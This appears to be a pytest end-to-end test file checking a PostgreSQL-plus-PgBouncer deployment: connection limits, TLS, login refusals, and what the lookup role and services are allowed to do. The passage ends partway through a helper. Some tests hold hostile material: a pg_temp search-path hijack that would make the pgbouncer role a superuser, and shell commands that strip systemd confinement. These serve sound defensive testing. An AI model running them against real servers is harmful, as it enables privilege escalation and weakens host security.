"""Stories of the pooler: how many it serves, whom it lets in, and what its roles may do."""

from __future__ import annotations

import asyncio
import json
import re
import resource
import threading
import time
from collections.abc import AsyncIterator, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import AsyncConnection, Connection

from tests.e2e import behind, hostile
from tests.e2e.project import Data, Project, Run, embedded, footprint
from tests.e2e.proof import admin, exposures, main_process, processes, psql, said
from tests.e2e.wait import eventually
from tests.lab import Host, Lab
from tests.lab.images import Release

BUSY_SECONDS = 3
LOGIN_SECONDS = 10
# Of clients that do one thing after the other: without it they would take the processors from all.
PAUSE_SECONDS = 0.02
# What one process of the test and a thousand clients need.
OPEN_FILES = 4096


@dataclass(frozen=True)
class Pooled:
    """PostgreSQL behind PgBouncer on one host, and the directory it is deployed from."""

    host: Host
    project: Project

    @property
    def password(self) -> str:
        """The application role's password."""
        return self.project.secrets["POSTGRES_ROLE_PSSCRIPT_PASSWORD"]

    def login(
        self,
        role: str = "psscript",
        password: str | None = None,
        database: str = "psscript",
        **how: Any,
    ) -> Connection[Any]:
        """Somebody else's client library, from another machine, through the pooler."""
        secret = self.password if password is None else password
        return psycopg.connect(
            host=self.host.address,
            port=6432,
            user=role,
            password=secret,
            dbname=database,
            autocommit=True,
            prepare_threshold=None,
            connect_timeout=LOGIN_SECONDS,
            **how,
        )

    async def async_login(self, prepare_threshold: int | None = None) -> AsyncConnection[Any]:
        """The same as the application's role, for crowds."""
        return await AsyncConnection.connect(
            host=self.host.address,
            port=6432,
            user="psscript",
            password=self.password,
            dbname="psscript",
            autocommit=True,
            prepare_threshold=prepare_threshold,
            connect_timeout=60,
        )

    def asks(
        self, role: str, sql: str, password: str | None = None, database: str = "psscript"
    ) -> Any:
        """The first value of an answer, through the pooler."""
        with self.login(role, password, database) as connection:
            row = connection.execute(sql.encode()).fetchone()
        return row[0] if row else None

    def refuses(self, role: str, password: str) -> str:
        """Why a login was refused; a login is an error."""
        with pytest.raises(psycopg.OperationalError) as refused:
            self.login(role, password).close()
        return str(refused.value)

    @contextmanager
    def settings(self, values: Data) -> Iterator[Run]:
        """Deploys with settings, and with the defaults again at the end."""
        try:
            yield self.apply(values)
        finally:
            self.project.settings({})
            self.project.deploy()

    def apply(self, values: Data) -> Run:
        """Deploys with settings; a second run has nothing left to do."""
        self.project.settings(values)
        run = self.project.deploy()
        assert self.project.deploy().changed == set()
        return run

    def changed(self, run: Run) -> set[str]:
        """The operations that changed something."""
        return {operation for operation, _ in run.changed}


def _pooled(lab: Lab, project: Project, name: str, release: Release) -> Pooled:
    host = lab.installed_host(name, release)
    groups = embedded(name, host)
    project.inventory({group: groups[group] for group in ("postgres", "pgbouncer")})
    pooled = Pooled(host, project)
    pooled.apply({})
    return pooled


@pytest.fixture(scope="module")
def pools(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Pooled]:
    """A host of each release, deployed with the defaults."""
    releases: tuple[Release, ...] = ("debian12", "debian13")
    projects = [Project(tmp_path_factory.mktemp(release)) for release in releases]
    names = [release.replace("debian", "pool") for release in releases]
    with ThreadPoolExecutor() as pool:
        found = pool.map(_pooled, [lab] * len(releases), projects, names, releases)
        return dict(zip(releases, found, strict=True))


@pytest.fixture(params=["debian12", "debian13"])
def pooled(request: pytest.FixtureRequest, pools: dict[str, Pooled]) -> Pooled:
    """Each host in turn."""
    return pools[request.param]


@pytest.fixture
def older(pools: dict[str, Pooled]) -> Pooled:
    """Debian 12: PostgreSQL 15 and PgBouncer 1.18."""
    return pools["debian12"]


@pytest.fixture
def newer(pools: dict[str, Pooled]) -> Pooled:
    """Debian 13: PostgreSQL 17 and PgBouncer 1.24."""
    return pools["debian13"]


# --- How many it serves --------------------------------------------------------------------------


@pytest.fixture(scope="module", autouse=True)
def open_files() -> Iterator[None]:
    """Lets this process hold a thousand connections."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(OPEN_FILES, hard)), hard))
    yield
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


@asynccontextmanager
async def crowd(
    pooled: Pooled, count: int, prepare_threshold: int | None = None
) -> AsyncIterator[list[AsyncConnection[Any]]]:
    """So many clients, all logged in at the same time; a refused one is an error."""
    doors = asyncio.Semaphore(50)
    clients: list[AsyncConnection[Any]] = []

    async def enter() -> None:
        async with doors:
            clients.append(await pooled.async_login(prepare_threshold))

    try:
        await asyncio.gather(*(enter() for _ in range(count)))
        yield clients
    finally:
        await asyncio.gather(*(client.close() for client in clients))


async def work(client: AsyncConnection[Any]) -> int:
    """Transactions for a few seconds; returns how many."""
    end, count = time.monotonic() + BUSY_SECONDS, 0
    while time.monotonic() < end:
        async with client.transaction():
            await client.execute("SELECT pg_sleep(0.05)")
            await client.execute("SELECT count(*) FROM pg_class")
        count += 1
    return count


async def _serves(pooled: Pooled, idle: int, busy: int) -> None:
    async with crowd(pooled, idle) as idlers, crowd(pooled, busy) as workers:
        done = await asyncio.gather(*map(work, workers))
        assert min(done) >= 2, done
        assert main_files(pooled.host) > idle + busy
        for client in idlers:
            row = await (await client.execute("SELECT 1")).fetchone()
            assert row == (1,)


def main_files(host: Host) -> int:
    """The files that PgBouncer has open: a connection is one."""
    pid = main_process(host, "pgbouncer").pid
    return len(host.run(f"ls /proc/{pid}/fd").stdout.split())


def file_limit(host: Host) -> int:
    """What the kernel allows the running process."""
    pid = main_process(host, "pgbouncer").pid
    limits = host.run(f"cat /proc/{pid}/limits").stdout.splitlines()
    return next(int(line.split()[3]) for line in limits if line.startswith("Max open files"))


def test_a_thousand_clients_at_once(pooled: Pooled) -> None:
    asyncio.run(_serves(pooled, 975, 25))
    assert file_limit(pooled.host) >= 2000


async def _one_too_many(pooled: Pooled) -> None:
    async with crowd(pooled, 1000):
        with pytest.raises(psycopg.OperationalError, match="no more connections allowed"):
            await pooled.async_login()


def test_the_limit_of_clients_is_real(older: Pooled) -> None:
    asyncio.run(_one_too_many(older))


def test_more_clients_without_a_restart(pooled: Pooled) -> None:
    before = main_process(pooled.host, "pgbouncer")
    with pooled.login() as patient, pooled.settings({"pgbouncer_max_client_conn": 1100}) as run:
        assert pooled.changed(run) == {"PgBouncer: configuration", "PgBouncer: service"}
        assert main_process(pooled.host, "pgbouncer") == before
        asyncio.run(_serves(pooled, 1000, 25))
        assert patient.execute("SELECT 1").fetchone() == (1,)


class Watch:
    """The most server connections of the application's role that were seen at once."""

    def __init__(self, pooled: Pooled) -> None:
        self.pooled, self.most = pooled, 0

    async def look(self) -> None:
        """Asks PostgreSQL itself again and again, until it is cancelled."""
        sql = "SELECT count(*) FROM pg_stat_activity WHERE usename = 'psscript'"
        while True:
            found = int(await asyncio.to_thread(admin, self.pooled.host, sql))
            self.most = max(self.most, found)


async def _multiplexed(pooled: Pooled) -> int:
    watch = Watch(pooled)
    async with crowd(pooled, 100) as clients:
        looking = asyncio.create_task(watch.look())
        done = await asyncio.gather(*map(work, clients))
        await _stop([looking])
    assert min(done) >= 2, done
    return watch.most


def test_a_hundred_clients_share_thirty_connections(pooled: Pooled) -> None:
    assert 10 <= asyncio.run(_multiplexed(pooled)) <= 30


async def _held(client: AsyncConnection[Any]) -> None:
    await client.execute("SELECT pg_sleep(6)")


async def _stop(tasks: Sequence[asyncio.Task[None]]) -> None:
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def _login_under_load(pooled: Pooled) -> float:
    """Seconds that a new client needs to get in while every pooled connection is at work."""
    async with crowd(pooled, 60) as clients:
        held = [asyncio.create_task(_held(client)) for client in clients]
        try:
            await asyncio.to_thread(eventually, lambda: _all_at_work(pooled), 5)
            start = time.monotonic()
            async with asyncio.timeout(4):
                await (await pooled.async_login()).close()
            return time.monotonic() - start
        finally:
            await _stop(held)


def _all_at_work(pooled: Pooled) -> None:
    sql = "SELECT count(*) FROM pg_stat_activity WHERE usename = 'psscript' AND state = 'active'"
    assert admin(pooled.host, sql) == "30"


def test_a_full_pool_still_lets_new_clients_log_in(older: Pooled) -> None:
    with older.settings({"pgbouncer_reserve_pool_timeout": 1}):
        assert asyncio.run(_login_under_load(older)) < 2


async def _prepared(pooled: Pooled) -> None:
    async with crowd(pooled, 60, prepare_threshold=0) as clients:
        for turn in range(5):
            rows = await asyncio.gather(*(_ask(client, turn) for client in clients))
            assert rows == [(turn + 1, turn * 2)] * len(clients)


async def _ask(client: AsyncConnection[Any], turn: int) -> Any:
    cursor = await client.execute("SELECT %s::int + 1, %s::int * 2, pg_sleep(0.01)", (turn, turn))
    row = await cursor.fetchone()
    return row[:2] if row else None


def test_prepared_statements_survive_the_pool(newer: Pooled) -> None:
    asyncio.run(_prepared(newer))


def test_prepared_statements_are_refused_where_the_pooler_is_too_old(older: Pooled) -> None:
    older.project.settings(
        {"pgbouncer_max_prepared_statements": 100, "pgbouncer_pool_mode": "session"}
    )
    before = footprint(older.host)
    run = older.project.pyinfra("-y", "inventory.py", "deploy.py")
    older.project.settings({})
    assert run.code == 1
    line = "pool12: pgbouncer_max_prepared_statements: needs PgBouncer 1.21; this host has 1.18"
    assert line in run.output
    assert footprint(older.host) == before


def test_what_hands_change_at_run_time_is_named_and_put_back(newer: Pooled) -> None:
    """By the newer servers; tests/e2e/test_plan_is_act.py has the older ones."""
    ways = [*behind.POSTGRES, *behind.PGBOUNCER]
    behind.go(newer.host, ways, 17)
    behind.check_named(newer.project.drift("--json"), ways, 17)
    newer.project.deploy()
    assert newer.project.drift().code == 0
    shown = "SELECT string_agg(current_setting(name), ' ' ORDER BY name) FROM pg_settings"
    names = "('work_mem', 'lock_timeout', 'log_min_duration_statement', 'random_page_cost')"
    assert admin(newer.host, f"{shown} WHERE name IN {names}").startswith("10s 1s 1.1 ")
    # It says nothing any more, but is still named as a stranger's file.
    newer.host.run("rm /etc/postgresql/17/main/conf.d/zz.conf")


# --- Whom it lets in -----------------------------------------------------------------------------


def test_a_role_made_by_hand_logs_in_at_once(pooled: Pooled) -> None:
    host = pooled.host
    before = footprint(host)
    admin(host, "CREATE ROLE newcomer LOGIN PASSWORD 'first-Password-1'")
    admin(host, "GRANT CONNECT ON DATABASE psscript TO newcomer")
    assert pooled.asks("newcomer", "SELECT current_user", "first-Password-1") == "newcomer"
    assert "wrong" not in (refusal := pooled.refuses("newcomer", "wrong")), refusal
    assert pooled.refuses("newcomer", "")
    with pooled.login("newcomer", "first-Password-1") as early:
        admin(host, "ALTER ROLE newcomer PASSWORD 'second-Password-2'")
        assert pooled.asks("newcomer", "SELECT 2", "second-Password-2") == 2
        assert pooled.refuses("newcomer", "first-Password-1")
        assert early.execute("SELECT 3").fetchone() == (3,)
    admin(host, "DROP OWNED BY newcomer; DROP ROLE newcomer")
    assert pooled.refuses("newcomer", "second-Password-2")
    assert footprint(host) == before


def test_nobody_gets_in_without_the_right_password(pooled: Pooled) -> None:
    for role in ("psscript", "postgres", "pgbouncer", "nobody"):
        for password in ("", "wrong", "md5d41d8cd98f00b204e9800998ecf8427e"):
            assert pooled.refuses(role, password)


def test_strangers_cannot_stop_the_pooler(pooled: Pooled) -> None:
    before = main_process(pooled.host, "pgbouncer")
    assert pooled.asks("psscript", "SELECT 1") == 1
    for database in ("pgbouncer", "postgres", "psscript", "template1", "nowhere"):
        for role in ("psscript", "pgbouncer", "postgres", "nobody"):
            with pytest.raises(psycopg.OperationalError):
                pooled.login(role, "wrong", database).close()
    assert pooled.asks("psscript", "SELECT 2") == 2
    assert main_process(pooled.host, "pgbouncer") == before


_CERTIFICATE = "/etc/datatier/pgbouncer/console/certificate.pem"


def test_clients_move_to_tls_and_back_without_an_error(pooled: Pooled, tmp_path: Path) -> None:
    """One that was there before goes on in clear; a new one has to come with TLS."""

    def logs_in(**how: Any) -> bool:
        """Whether that connection is encrypted."""
        with pooled.login(**how) as client:
            return bool(client.execute("SELECT 1") and client.pgconn.ssl_in_use)

    with pooled.login(sslmode="disable") as before:
        with pooled.settings({"pgbouncer_client_tls": "allow"}) as run:
            assert run.changed == {
                (f"PgBouncer: {what}", pooled.host.name)
                for what in ("key", "configuration", "service")
            }
            known, foreign = tmp_path / "known.pem", tmp_path / "foreign.pem"
            known.write_text(pooled.host.run(f"cat {_CERTIFICATE}").stdout)
            make = "openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -keyout /dev/null 2>&-"
            foreign.write_text(pooled.host.run(make).stdout)
            assert not logs_in(sslmode="disable")
            assert logs_in(sslmode="verify-full", sslrootcert=str(known))
            before.execute("SELECT 1")
            pooled.apply({"pgbouncer_client_tls": "require"})
            before.execute("SELECT 1")
            assert logs_in(sslmode="verify-full", sslrootcert=str(known))
            for how, why in (
                ({"sslmode": "disable"}, "SSL required"),
                ({"sslmode": "verify-ca", "sslrootcert": str(foreign)}, "certificate verify"),
                ({"ssl_max_protocol_version": "TLSv1.1"}, "protocol"),
            ):
                with pytest.raises(psycopg.OperationalError, match=why):
                    logs_in(**{"sslmode": "require", **how})
        before.execute("SELECT 1")
        assert not logs_in(sslmode="prefer")


def test_a_superuser_made_by_hand_stays_outside(pooled: Pooled) -> None:
    admin(pooled.host, "CREATE ROLE mighty SUPERUSER LOGIN PASSWORD 'mighty-Password-1'")
    try:
        assert pooled.refuses("mighty", "mighty-Password-1")
    finally:
        admin(pooled.host, "DROP ROLE mighty")


def _console(pooled: Pooled, role: str, password: str) -> Any:
    command = f'psql -h localhost -p 6432 -U {role} -d pgbouncer -c "SHOW POOLS"'
    script = f"IFS= read -r PGPASSWORD; export PGPASSWORD; {command}"
    return pooled.host.run(script, stdin=f"{password}\n", check=False)


def test_the_admin_console_is_the_superusers(pooled: Pooled) -> None:
    assert pooled.asks("psscript", "SELECT 1") == 1
    shown = said(_console(pooled, "postgres", pooled.project.secrets["POSTGRES_PASSWORD"]))
    assert "cl_active" in shown and "psscript" in shown
    for password in (pooled.password, "wrong"):
        refused = _console(pooled, "psscript", password)
        assert refused.returncode == 2 and "cl_active" not in refused.stdout
    assert _console(pooled, "postgres", pooled.password).returncode == 2


def _inner(pooled: Pooled) -> dict[str, str]:
    """The roles of the infrastructure, with their passwords."""
    names = {"postgres": "POSTGRES_PASSWORD", "pgbouncer": "PGBOUNCER_AUTH_PASSWORD"}
    secrets = {role: pooled.project.secrets[name] for role, name in names.items()}
    return secrets | {"datatier_backup": "keepers-Password-1"}


@contextmanager
def _keeper(pooled: Pooled) -> Iterator[None]:
    """The role of the backup service, which this estate has not."""
    secret = _inner(pooled)["datatier_backup"]
    admin(pooled.host, f"CREATE ROLE datatier_backup LOGIN PASSWORD '{secret}'")
    admin(pooled.host, "GRANT CONNECT ON DATABASE psscript TO datatier_backup")
    try:
        yield
    finally:
        admin(pooled.host, "DROP OWNED BY datatier_backup; DROP ROLE datatier_backup")


# The second is what 1.18 says of replication, whoever asks.
_REJECTED = "login rejected|unsupported startup parameter: replication"


def test_roles_of_the_infrastructure_reach_no_database_through_the_pooler(pooled: Pooled) -> None:
    """With the right passwords, near and far; the console has its superuser, and only near."""
    host, near = pooled.host, ("127.0.0.1", "/var/run/postgresql", pooled.host.address)
    databases = ("psscript", "postgres", "PGBOUNCER", "'dbname=psscript replication=database'")
    with _keeper(pooled):
        for role, secret in _inner(pooled).items():
            direct = psql(host, "SELECT 'in'", role=role, password=secret, port=5432)
            assert said(direct) == "in", role
            for address, name in ((a, d) for a in near for d in databases):
                refused = psql(
                    host, "SELECT 'in'", role=role, password=secret, database=name, address=address
                )
                assert re.search(_REJECTED, refused.stderr), (role, name, address, refused)
            for name in ("psscript", "pgbouncer"):
                with pytest.raises(psycopg.OperationalError, match=r"login rejected|not allowed"):
                    pooled.login(role, secret, name).close()
    for address in near:
        shown = psql(
            host,
            "SHOW VERSION",
            role="postgres",
            password=pooled.project.secrets["POSTGRES_PASSWORD"],
            database="pgbouncer",
            address=address,
        )
        assert said(shown).startswith("PgBouncer 1."), address
    own = "psql -XAtqw -h /var/run/postgresql -p 6432 -d pgbouncer -c 'SHOW VERSION' -U"
    assert said(host.run(f"{own} pgbouncer", user="postgres")).startswith("PgBouncer 1.")
    assert pooled.asks("psscript", "SELECT current_user") == "psscript"


def test_a_line_of_the_settings_opens_the_console(older: Pooled, lab: Lab) -> None:
    """What PgBouncer does not understand is refused, and the running one goes on as it was."""
    secret = older.project.secrets["POSTGRES_PASSWORD"]
    line = f"host pgbouncer postgres {lab.gateway}/32 scram-sha-256"
    with older.settings({"pgbouncer_hba": [line]}) as run:
        assert older.changed(run) == {"PgBouncer: configuration", "PgBouncer: service"}
        assert older.asks("postgres", "SHOW VERSION", secret, "pgbouncer")
        before = footprint(older.host)
        older.project.settings({"pgbouncer_hba": ["host all all example.org scram-sha-256"]})
        refused = older.project.pyinfra("-y", "inventory.py", "deploy.py")
        assert refused.code == 1 and "failed to parse address - example.org" in refused.output
        assert footprint(older.host) == before
    with pytest.raises(psycopg.OperationalError, match="login rejected"):
        older.login("postgres", secret, "pgbouncer").close()


# As the release before the file of lines left it.
_WITHOUT_LINES = """
cd /etc/pgbouncer; rm pg_hba.conf
sed -i '/^auth_hba_file/d; s/^auth_type = .*/auth_type = scram-sha-256/' pgbouncer.ini
"""
_HANGUP = "kill -HUP $(cat /var/run/postgresql/pgbouncer.pid)"


def test_the_lines_come_with_a_reload(pooled: Pooled) -> None:
    """Clients of the release before it go on, within their transactions too."""
    host, secret = pooled.host, pooled.project.secrets["POSTGRES_PASSWORD"]
    host.run(_WITHOUT_LINES)

    def without_lines() -> None:
        host.run(_HANGUP, user="postgres")
        pooled.login("postgres", secret).close()

    eventually(without_lines, 20)
    before = main_process(host, "pgbouncer")
    with pooled.login() as patient, patient.transaction():
        patient.execute("CREATE TEMP TABLE kept (a int)")
        plan = pooled.project.plan()
        run = pooled.project.deploy()
        patient.execute("SELECT FROM kept")
    assert plan.planned == run.changed
    assert "/etc/pgbouncer/pg_hba.conf: create" in run.output
    assert "pgbouncer: reload" in run.output
    assert main_process(host, "pgbouncer") == before
    assert "login rejected" in pooled.refuses("postgres", secret)
    host.run("rm /etc/pgbouncer/pg_hba.conf")
    pooled.project.deploy()
    assert "login rejected" in pooled.refuses("postgres", secret)
    assert pooled.asks("psscript", "SELECT 1") == 1


# --- What the lookup role may do -----------------------------------------------------------------


def _as_lookup(pooled: Pooled, sql: str, database: str = "psscript") -> Any:
    password = pooled.project.secrets["PGBOUNCER_AUTH_PASSWORD"]
    return psql(pooled.host, sql, role="pgbouncer", password=password, database=database, port=5432)


_ATTRIBUTES = """
SELECT json_build_object('powers', rolsuper OR rolcreatedb OR rolcreaterole OR rolreplication
    OR rolbypassrls, 'member', EXISTS (SELECT FROM pg_auth_members m WHERE m.member = r.oid),
  'owns', EXISTS (SELECT FROM pg_class c WHERE c.relowner = r.oid))
FROM pg_roles r WHERE rolname = 'pgbouncer'
"""


def test_the_lookup_role_can_look_up_and_nothing_else(pooled: Pooled) -> None:
    found = json.loads(admin(pooled.host, _ATTRIBUTES))
    assert found == {"powers": False, "member": False, "owns": False}
    with pooled.login() as application:
        application.execute("DROP TABLE IF EXISTS private_notes")
        application.execute("CREATE TABLE private_notes AS SELECT 'mine' AS note")
    for table in ("pg_authid", "pg_shadow", "private_notes"):
        refused = _as_lookup(pooled, f"SELECT * FROM {table}")
        assert "permission denied for" in refused.stderr and not refused.stdout, refused
    for order in ("CREATE TABLE mine (a int)", "CREATE ROLE friend", "CREATE DATABASE mine"):
        assert "permission denied" in _as_lookup(pooled, order).stderr
    hashed = said(_as_lookup(pooled, "SELECT phash FROM pgbouncer.user_lookup('psscript')"))
    assert hashed.startswith("SCRAM-SHA-256$")


def test_superusers_hashes_are_not_handed_out(pooled: Pooled) -> None:
    admin(pooled.host, "CREATE ROLE mighty SUPERUSER LOGIN PASSWORD 'mighty-Password-1'")
    try:
        for name in ("postgres", "mighty", "nobody"):
            answer = _as_lookup(pooled, f"SELECT phash FROM pgbouncer.user_lookup('{name}')")
            assert said(answer) == "", answer
    finally:
        admin(pooled.host, "DROP ROLE mighty")


# A type is looked up in pg_temp first, unless the path of the function names that place last.
_TEMPORARY = """
CREATE FUNCTION pg_temp.mighty(pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS
  'BEGIN EXECUTE ''ALTER ROLE pgbouncer SUPERUSER''; RETURN true; END';
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.mighty(VALUE));
SELECT phash FROM pgbouncer.user_lookup('psscript');
"""


def test_types_of_the_lookup_role_are_not_the_lookups(pooled: Pooled) -> None:
    refused = _as_lookup(pooled, _TEMPORARY)
    assert "permission denied to create temporary tables" in refused.stderr, refused
    admin(pooled.host, "GRANT TEMPORARY ON DATABASE psscript TO pgbouncer")
    assert "SCRAM-SHA-256$" in said(_as_lookup(pooled, _TEMPORARY))
    admin(pooled.host, "REVOKE TEMPORARY ON DATABASE psscript FROM pgbouncer")
    assert admin(pooled.host, "SELECT rolsuper FROM pg_roles WHERE rolname = 'pgbouncer'") == "f"


def test_a_role_whose_time_is_over_stays_outside(pooled: Pooled) -> None:
    host, secret = pooled.host, "late-Password-1"
    admin(host, f"CREATE ROLE late LOGIN PASSWORD '{secret}' VALID UNTIL 'tomorrow'")
    admin(host, "GRANT CONNECT ON DATABASE psscript TO late")
    try:
        assert pooled.asks("late", "SELECT current_user", secret) == "late"
        admin(host, "ALTER ROLE late VALID UNTIL 'yesterday'")
        assert pooled.refuses("late", secret)
        admin(host, "ALTER ROLE late VALID UNTIL 'infinity' NOLOGIN")
        assert pooled.refuses("late", secret)
    finally:
        admin(host, "DROP OWNED BY late; DROP ROLE late")


_LOOKUP = "pgbouncer.user_lookup(text)"
_EXECUTORS = f"""
SELECT coalesce(json_agg(rolname), '[]') FROM pg_roles
WHERE NOT rolsuper AND has_function_privilege(rolname, '{_LOOKUP}', 'EXECUTE')
"""


def test_nobody_else_can_execute_the_lookup(pooled: Pooled) -> None:
    for database in ("psscript", "template1"):
        assert json.loads(admin(pooled.host, _EXECUTORS, database)) == ["pgbouncer"]
    with pooled.login() as application, pytest.raises(psycopg.errors.InsufficientPrivilege):
        application.execute("SELECT * FROM pgbouncer.user_lookup('pgbouncer')")


def test_services_have_few_rights(pooled: Pooled) -> None:
    left = exposures(pooled.host)
    assert sorted(unit.partition("@")[0] for unit in left) == ["pgbouncer.service", "postgresql"]
    assert max(left.values()) < 2
    jit = "".join(f"SET jit{above}_above_cost = 0;" for above in ("", "_inline", "_optimize"))
    compiled = admin(pooled.host, f"{jit} EXPLAIN ANALYZE SELECT count(*) FROM pg_class")
    assert "Functions" in compiled
    tried = "COPY said FROM PROGRAM 'unshare --user true 2>&1 || :'"
    answer = admin(pooled.host, f"CREATE TEMP TABLE said (line text); {tried}; TABLE said")
    assert answer.endswith("Operation not permitted")


_RUN = "/run/systemd/system/run-.service.d"
# As the release before left it, on a host where systemd cannot confine what it starts.
_UNCONFINED = f"""
cd /etc/systemd/system
sed -Ei '/^(Cap|Dev|Key|Lock|Mem|NoNew|Priv|Prot|Restrict|System)/d' p*.service.d/datatier.conf
mkdir {_RUN}; printf '[Service]\nRootDirectory=/nowhere\n' >{_RUN}/x.conf
systemctl daemon-reload; systemctl restart postgresql pgbouncer
"""


def test_rights_are_taken_without_a_restart(pooled: Pooled) -> None:
    """Where the next start would fail for it, a run is refused before it."""
    host, project = pooled.host, pooled.project
    host.run(_UNCONFINED)
    with pytest.raises(AssertionError):
        exposures(host)
    before, running = footprint(host), processes([host])
    refused = project.pyinfra("-y", "inventory.py", "deploy.py")
    assert refused.code == 1, refused.output
    assert "confine_services: systemd cannot take rights from services here" in refused.output
    assert footprint(host) == before
    try:
        project.settings({"confine_services": False})
        assert project.deploy().changed == set()
    finally:
        project.settings({})
        host.run(f"rm -r {_RUN}; systemctl daemon-reload")
    with pooled.login() as patient:
        run = pooled.apply({})
        assert patient.execute("SELECT 1").fetchone() == (1,)
    assert pooled.changed(run) == {"PostgreSQL: configuration", "PgBouncer: configuration"}
    assert processes([host]) == running
    host.run("systemctl restart postgresql pgbouncer")
    assert max(exposures(host).values()) < 2
    eventually(lambda: pooled.login().close(), 10)


def test_every_password_is_scram(pooled: Pooled) -> None:
    hashes = admin(pooled.host, "SELECT rolpassword FROM pg_authid WHERE rolpassword IS NOT NULL")
    assert len(hashes.splitlines()) >= 3
    assert all(line.startswith("SCRAM-SHA-256$4096:") for line in hashes.splitlines())
    methods = admin(pooled.host, "SELECT DISTINCT auth_method FROM pg_hba_file_rules ORDER BY 1")
    assert methods.split() == ["peer", "scram-sha-256"]
    assert admin(pooled.host, "SELECT count(*) FROM pg_hba_file_rules WHERE error <> ''") == "0"


# --- Roles and databases as the settings say -----------------------------------------------------

_ROLES = {
    "psscript": {
        "createdb": True,
        "settings": {"work_mem": "7MB"},
    },
    "analyst": {
        "password": "analyst-Password-1",
        "member_of": ["readers"],
        "connection_limit": 7,
        "valid_until": "2097-05-04T03:02:01+00:00",
    },
    "readers": {"login": False},
}
_DATABASES = {
    "psscript": {"owner": "psscript", "extensions": ["pg_trgm", "citext"]},
    "reports": {
        "owner": "analyst",
        "settings": {"default_transaction_isolation": "repeatable read"},
        "grants": {"psscript": ["CONNECT", "CREATE"]},
    },
}
_FEWER = {
    "psscript": {},
    "analyst": {"password": "analyst-Password-2"},
    "readers": {"login": False},
}
_FEWER_DATABASES = {
    "psscript": {"owner": "psscript"},
    "reports": {"owner": "readers", "grants": {"analyst": ["CONNECT"]}},
}
# As the first release left a cluster, with roles that live on what PUBLIC may do.
_OPEN = """
GRANT CONNECT, TEMPORARY ON DATABASE psscript, reports, postgres TO PUBLIC;
GRANT CONNECT ON DATABASE template1 TO PUBLIC;
GRANT CREATE ON SCHEMA public TO PUBLIC;
CREATE ROLE visitor LOGIN PASSWORD 'visitor-Password-1';
CREATE ROLE shy LOGIN NOINHERIT IN ROLE visitor PASSWORD 'shy-Password-1';
CREATE TABLE visits (at timestamptz); ALTER TABLE visits OWNER TO visitor;
"""
_OPENED = (
    "database psscript: grant CONNECT, TEMPORARY to analyst, which uses it",
    "database psscript: revoke CONNECT, TEMPORARY from PUBLIC",
    "database reports: grant TEMPORARY to analyst, which uses it",
    "database reports: grant CONNECT, TEMPORARY to shy, which uses it",
    "database reports: grant CONNECT, TEMPORARY to visitor, which uses it",
    "schema public of reports: grant CREATE to visitor, which has made something there",
    "schema public of reports: revoke CREATE from PUBLIC",
    "database postgres: revoke CONNECT, TEMPORARY from PUBLIC",
    "database template1: revoke CONNECT from PUBLIC",
)


def _role(host: Host, name: str) -> dict[str, Any]:
    sql = f"""
        SELECT json_build_object('createdb', rolcreatedb, 'limit', rolconnlimit,
          'until', CASE WHEN isfinite(rolvaliduntil) THEN extract(epoch FROM rolvaliduntil) END,
          'groups', (SELECT json_agg(roleid::regrole::text)
                     FROM pg_auth_members WHERE member = r.oid))
        FROM pg_authid r WHERE rolname = '{name}'"""
    return dict(json.loads(admin(host, sql)))


def _may(host: Host, role: str, database: str, privilege: str) -> bool:
    return (
        admin(host, f"SELECT has_database_privilege('{role}', '{database}', '{privilege}')") == "t"
    )


def _owner(host: Host, database: str) -> str:
    return admin(
        host, f"SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = '{database}'"
    )


def _extensions(host: Host) -> set[str]:
    return set(admin(host, "SELECT extname FROM pg_extension").split())


def _shown(pooled: Pooled, parameter: str) -> str:
    """A setting in a new session of the application's role, without the pooler."""
    return said(psql(pooled.host, f"SHOW {parameter}", password=pooled.password, port=5432))


def _asked(pooled: Pooled, role: str, secret: str, database: str, sql: str, port: int) -> Any:
    return psql(pooled.host, sql, role=role, password=secret, database=database, port=port)


def _answers(pooled: Pooled, role: str, secret: str, database: str, sql: str) -> set[str]:
    """What a role is told, at the server and through the pooler."""
    asked = [_asked(pooled, role, secret, database, sql, port) for port in (5432, 6432)]
    errors = (done.stderr.rpartition("ERROR:")[2].strip().partition("\n")[0] for done in asked)
    return {done.stdout.strip() or error for done, error in zip(asked, errors, strict=True)}


def _check_given(pooled: Pooled) -> None:
    host, plain = pooled.host, {"createdb": False, "limit": -1, "until": None, "groups": None}
    assert _role(host, "psscript") == plain | {"createdb": True}
    limits = {"limit": 7, "until": 4018474921, "groups": ["readers"]}
    assert _role(host, "analyst") == plain | limits
    assert {"pg_trgm", "citext", "pg_stat_statements"} <= _extensions(host)
    assert _owner(host, "reports") == "analyst"
    assert _may(host, "psscript", "reports", "CREATE")
    assert _shown(pooled, "work_mem") == "7MB"
    isolation = "SHOW transaction_isolation"
    said_here = pooled.asks("analyst", isolation, "analyst-Password-1", "reports")
    assert said_here == "repeatable read"
    assert pooled.asks("psscript", "SELECT current_database()", database="reports") == "reports"
    makes = _answers(pooled, "psscript", pooled.password, "reports", "CREATE TEMP TABLE t ()")
    assert makes == {'permission denied to create temporary tables in database "reports"'}


def _check_taken_away(pooled: Pooled) -> None:
    host, plain = pooled.host, {"createdb": False, "limit": -1, "until": None, "groups": None}
    assert _role(host, "psscript") == plain
    assert _role(host, "analyst") == plain
    assert _owner(host, "reports") == "readers"
    assert not _may(host, "psscript", "reports", "CREATE")
    assert _shown(pooled, "work_mem") != "7MB"
    # A pooled session keeps what it began with until PgBouncer closes it: ask in a new one.
    secret, isolation = "analyst-Password-2", "SHOW transaction_isolation"
    direct = psql(host, isolation, role="analyst", password=secret, database="reports", port=5432)
    assert said(direct) == "read committed"
    assert pooled.asks("analyst", "SELECT 4", secret, "reports") == 4
    assert pooled.refuses("analyst", "analyst-Password-1")


def _check_apart(pooled: Pooled) -> None:
    """A role enters its own databases only; who has used one before still does."""
    secrets = {
